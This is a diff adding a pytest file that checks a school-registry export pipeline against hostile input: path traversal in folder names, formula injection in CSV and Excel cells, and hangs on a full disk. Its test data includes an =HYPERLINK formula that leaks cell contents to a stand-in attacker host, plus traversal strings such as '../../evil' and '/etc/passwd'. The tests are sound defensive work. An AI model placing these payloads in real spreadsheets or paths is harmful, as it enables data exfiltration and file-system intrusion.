@@ -1,0 +1,178 @@
+"""Hostile registry data in the exports: it never names a path, never becomes a formula, and a failing write
+never hangs the workbook writer."""
+
+from __future__ import annotations
+
+import csv
+import errno
+import os
+import stat
+import threading
+import time
+import zipfile
+from pathlib import Path
+
+import duckdb
+import pytest
+from openpyxl import load_workbook
+from python_calamine import CalamineWorkbook
+
+from skolon_pipeline.exports import xlsx
+from skolon_pipeline.exports.validation_file import XLSX_NAME, write_validation_files
+from skolon_pipeline.files import OutsideFolder, safe_path, slug
+from skolon_pipeline_tests.registry import Registry
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Klicka här")'
+
+
+@pytest.mark.parametrize(
+    ("name", "expected"),
+    [("Lindby kommun", "lindby-kommun"), ("Österåkers Skolor AB", "osterakers-skolor-ab"), ("../../x", "x"),
+     ("..", "x"), ("", "x"), (None, "x"), ("/etc/passwd", "etc-passwd"), ("C:\\Windows", "c-windows"),
+     ("a\x00b\nc", "a-b-c"), ("CON", "con"), ("x" * 500, "x" * 64), ("‮gpj.exe", "gpj-exe")],
+)
+def test_a_slug_is_a_plain_name(name, expected):
+    assert slug(name) == expected
+
+
+def test_safe_path_refuses_a_link_out_of_the_folder(tmp_path):
+    base = tmp_path / "exports"
+    base.mkdir()
+    (base / "lindby-kommun").symlink_to(tmp_path)  # left by someone, pointing out of the export folder
+    assert safe_path(base, "2026-12-01", "Lindby kommun") == base / "2026-12-01" / "lindby-kommun"
+    with pytest.raises(OutsideFolder):
+        safe_path(base, "Lindby kommun", "x")
+
+
+def _hostile_registry() -> Registry:
+    reg = Registry()
+    reg.organisations[0]["displayName"] = "../../evil"  # the authority's name becomes a folder name
+    school = reg.school(name="../..", code="../../x")
+    students = [reg.student(school, givenName=HYPERLINK, familyName="+46 70 123"),
+                reg.student(school, givenName="@SUM(A1:A9)", familyName="-2+3")]
+    klass = reg.group(school, members=students, name="=1+1")
+    reg.teach(school, klass)
+    return reg
+
+
+@pytest.fixture
+def hostile_night(run_registry):
+    return run_registry(_hostile_registry())
+
+
+def _mode(path: Path) -> int:
+    return stat.S_IMODE(path.stat().st_mode)
+
+
+def test_a_school_unit_code_never_names_a_path(hostile_night, tmp_path):
+    export_dir = tmp_path / "out" / "exports"
+    export_dir.mkdir(parents=True)
+    os.chmod(export_dir, 0o755)
+    os.chmod(tmp_path / "out", 0o751)
+    before = {p: _mode(p) for p in (tmp_path, tmp_path / "out", export_dir)}
+    outside_before = set(tmp_path.rglob("*")) - set(export_dir.rglob("*"))
+
+    night, [written] = write_validation_files(hostile_night.warehouse, export_dir, school="../../x")
+
+    assert written.folder == export_dir / night.isoformat() / "evil" / "x"  # slugs: '../..' + '-' + '../../x'
+    assert (written.folder / XLSX_NAME).is_file()
+    # Nothing was written outside the export folder, and no folder that existed changed its mode.
+    assert set(tmp_path.rglob("*")) - set(export_dir.rglob("*")) == outside_before
+    assert {p: _mode(p) for p in before} == before
+    # What the export created is owner-only.
+    assert {_mode(p) for p in export_dir.rglob("*")} == {0o700, 0o600}
+
+    # The whole night (every authority) as well.
+    _, files = write_validation_files(hostile_night.warehouse, export_dir)
+    assert [f.folder for f in files] == [export_dir / night.isoformat() / "evil"]
+    assert {p: _mode(p) for p in before} == before
+
+
+def _csv_cells(path: Path) -> list[str]:
+    with path.open(encoding="utf-8", newline="") as f:
+        return [cell for row in csv.reader(f) for cell in row]
+
+
+def test_cells_that_would_start_a_formula_are_text_in_csv_and_workbook(hostile_night, tmp_path):
+    _, [written] = write_validation_files(hostile_night.warehouse, tmp_path / "exports")
+    hostile = [HYPERLINK, "+46 70 123", "@SUM(A1:A9)", "-2+3", "=1+1"]
+
+    # CSV (OWASP): a leading ' so that a spreadsheet shows the value as text; nothing starts a formula.
+    cells = [c for name in ("users.csv", "groups.csv", "memberships.csv") for c in _csv_cells(written.folder / name)]
+    for value in hostile:
+        assert f"'{value}" in cells or any(c.startswith(f"'{value}") for c in cells), value
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+
+    # Workbook: the exact value, as an inline string (never a formula), with Excel's quote prefix.
+    with zipfile.ZipFile(written.xlsx) as zf:
+        sheets = [zf.read(n).decode() for n in zf.namelist() if n.startswith("xl/worksheets/")]
+    assert not any("<f>" in s or "<f " in s for s in sheets)
+    wb = load_workbook(written.xlsx)
+    found = {}
+    for ws in wb:
+        for row in ws.iter_rows():
+            for c in row:
+                if c.value in hostile:
+                    found[c.value] = (c.data_type, c.quotePrefix)
+    assert found == {v: ("s", True) for v in hostile}
+    # An independent reader (calamine, as pandas and Rust tools read workbooks) sees the same text.
+    users = CalamineWorkbook.from_path(str(written.xlsx)).get_sheet_by_name("Users").to_python()
+    assert HYPERLINK in {cell for row in users for cell in row}
+
+
+def test_text_cells_keep_leading_and_trailing_spaces(tmp_path):
+    path = tmp_path / "t.xlsx"
+    with duckdb.connect() as con:
+        xlsx.write_workbook(con, path, [xlsx.Sheet("S", "SELECT '  indented ' AS v, '-' AS dash, 'plain' AS p")])
+    ws = load_workbook(path)["S"]
+    assert [c.value for c in ws[2]] == ["  indented ", "-", "plain"]
+    assert [c.quotePrefix for c in ws[2]] == [False, True, False]
+
+
+class _FullDisk:
+    """A file whose writes fail with ENOSPC after `room` bytes, as on a full export volume."""
+
+    def __init__(self, room: int):
+        self.room, self.written = room, 0
+
+    def write(self, data) -> int:
+        if self.written + len(data) > self.room:
+            raise OSError(errno.ENOSPC, "No space left on device")
+        self.written += len(data)
+        return len(data)
+
+    def tell(self) -> int:
+        return self.written
+
+    def flush(self) -> None:
+        pass
+
+    def seekable(self) -> bool:
+        return False
+
+
+@pytest.mark.parametrize("target", ["file object", "/dev/full"])
+def test_a_failing_write_ends_the_workbook_writer_with_the_error_within_seconds(monkeypatch, tmp_path, target):
+    # Many small chunks: the fetching thread fills its bounded queue while the writer fails.
+    monkeypatch.setattr(xlsx, "FETCH_ROWS", 50)
+    if target == "/dev/full" and not os.path.exists("/dev/full"):
+        pytest.skip("no /dev/full")
+    out = _FullDisk(room=20_000) if target == "file object" else Path("/dev/full")
+    result: dict = {}
+
+    def write() -> None:
+        try:
+            with duckdb.connect() as con:
+                xlsx.write_workbook(con, out, [xlsx.Sheet("Rows", "SELECT i, 'name ' || i AS name FROM range(200000) t(i)")])
+        except BaseException as exc:  # noqa: BLE001 - the test looks at what it was
+            result["error"] = exc
+
+    started = time.monotonic()
+    writer = threading.Thread(target=write, daemon=True)
+    writer.start()
+    writer.join(timeout=20)
+    assert not writer.is_alive(), "the workbook writer hangs after a failed write"
+    assert time.monotonic() - started < 20
+    error = result.get("error")
+    assert isinstance(error, OSError) and error.errno == errno.ENOSPC, error
+    assert not [t for t in threading.enumerate() if t.name == "xlsx-rows"]
